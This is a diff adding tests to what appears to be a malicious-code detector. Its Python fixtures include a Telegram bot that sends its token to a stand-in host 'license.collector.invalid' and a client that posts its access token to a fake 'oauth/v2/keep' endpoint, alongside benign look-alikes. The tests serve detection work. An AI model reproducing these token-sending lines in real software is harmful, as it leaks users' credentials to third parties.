@@ -171,3 +171,51 @@ test('a key that is told the host that a page of a messenger names is stolen', a
   expect(await judged(bot('https://t.me/s/news_of_nodes'))).toContain('malware 10');
   expect((await judged(bot('https://nodes.vendor.example/list'))).join()).not.toMatch(/malware/);
 });
+
+test('a bot that tells a second house its token, and asks no more than whether it came, is for a person to judge', async () => {
+  const bot = (sent: string, rest: string): string =>
+    python(
+      'import asyncio, aiohttp',
+      'from aiogram import Bot',
+      'class Quick:',
+      '    def __init__(self, token):',
+      '        self.token = token',
+      '        self.bot = Bot(token=token)',
+      '    async def _check(self):',
+      '        async with aiohttp.ClientSession() as session:',
+      `            async with session.get('https://license.collector.invalid/c', params={'t': ${sent}}) as answer:`,
+      `                return ${rest}`,
+    );
+
+  expect(await judged(bot('self.token', 'answer.status'))).toEqual(['suspicious 6']);
+  expect(await judged(bot("'1.0'", 'answer.status'))).toEqual([]);
+  expect(await judged(bot('self.token', 'await answer.json()'))).toEqual([]);
+});
+
+test('look-alike: a password of which a service says whether it is right', async () => {
+  const client = python(
+    'import requests',
+    'def check(user, password):',
+    "    return requests.post('https://api.vendor.invalid/check', json={'u': user, 'p': password}).ok",
+  );
+
+  expect(await judged(client)).toEqual(['note 1']);
+});
+
+test('look-alike: a token that goes back to the house where its vendor signs people in', async () => {
+  const client = (path: string): string =>
+    python(
+      'import requests',
+      'class Client:',
+      '    def __init__(self, access_token):',
+      '        self.access_token = access_token',
+      '    def me(self):',
+      "        head = {'Authorization': 'Bearer ' + self.access_token}",
+      "        return requests.get('https://api.vendor.example/me', headers=head).json()",
+      '    def close(self):',
+      `        requests.post('https://accounts.vendor-id.invalid/${path}', data={'token': self.access_token})`,
+    );
+
+  expect(await judged(client('oauth/v2/token/revoke'))).toEqual([]);
+  expect(await judged(client('oauth/v2/keep'))).toContain('malware 10');
+});
